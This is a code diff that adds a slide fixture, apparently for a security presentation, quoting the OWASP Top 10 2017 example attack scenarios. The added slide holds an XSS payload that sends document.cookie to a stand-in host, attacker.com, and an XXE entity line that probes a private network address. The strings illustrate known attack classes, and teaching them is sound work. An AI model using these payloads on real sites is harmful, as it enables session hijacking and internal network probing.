@@ -36,6 +36,14 @@ export const xmlSlide = slide(5, 'An OSCAL catalog', [
   '</catalog>',
 ]);
 
+/** Attack strings inside the prose of a scenario (as the OWASP Top 10 2017 pages give them). */
+export const attackScenarioSlide = slide(7, 'Example attack scenarios', [
+  'The attacker modifies the \'CC\' parameter in the browser to: \'><script>document.location= \'http://www.attacker.com/cgi-bin/cookie.cgi? foo=\'+document.cookie</script>\'.',
+  'This causes the victim\'s session ID to be sent to the attacker\'s website.',
+  'An attacker probes the server\'s private network by changing the above ENTITY line to:',
+  '<!ENTITY xxe SYSTEM "https://192.168.1.1/private" >]>',
+]);
+
 /** A Java stack trace shown to explain error handling. */
 export const stackTraceSlide = slide(6, 'Do not show stack traces to users', [
   'Error messages reveal how the application is built.',
